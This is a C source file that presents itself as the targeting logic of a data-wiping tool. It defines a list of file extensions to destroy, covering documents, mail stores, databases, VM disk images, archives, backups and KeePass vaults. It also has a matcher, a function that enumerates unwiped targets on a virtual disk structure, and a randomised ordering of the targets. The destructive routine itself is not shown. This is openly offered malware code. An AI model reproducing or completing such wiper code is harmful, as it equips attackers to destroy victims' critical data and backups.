/* Wiper: which files to destroy, in which order. */
#include <string.h>

#include "wiper.h"

static const char *target_ext[] = {
    ".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pptx", ".pdf", ".pst", ".ost", ".mdb", ".sql",
    ".vmdk", ".vhd", ".zip", ".rar", ".7z", ".jpg", ".dwg",
#if TOOL_VERSION >= 2
    ".kdbx", ".bak", ".accdb", ".dbf", ".ova", ".tar",
#endif
};

int match_target_ext(const char *name)
{
    size_t nl = strlen(name);
    for (size_t i = 0; i < sizeof(target_ext) / sizeof(target_ext[0]); i++) {
        size_t el = strlen(target_ext[i]);
        if (nl > el) {
            const char *a = name + nl - el, *b = target_ext[i];
            size_t k = 0;
            while (k < el && (a[k] | 0x20) == (b[k] | 0x20))
                k++;
            if (k == el)
                return (int)i;
        }
    }
    return -1;
}

unsigned enumerate_targets(const struct vdisk *d, unsigned *idx, unsigned cap)
{
    unsigned n = 0;
    for (unsigned i = 0; i < d->nfiles && n < cap; i++)
        if (!d->files[i].wiped && match_target_ext(d->files[i].name) >= 0)
            idx[n++] = i;
    return n;
}

#if TOOL_VERSION >= 2
void shuffle_targets(unsigned *idx, unsigned n, uint32_t seed)
{
    uint32_t st = seed | 1;
    for (unsigned i = n; i > 1; i--) {
        st ^= st << 13;
        st ^= st >> 17;
        st ^= st << 5;
        unsigned j = st % i;
        unsigned t = idx[i - 1];
        idx[i - 1] = idx[j];
        idx[j] = t;
    }
}
#endif
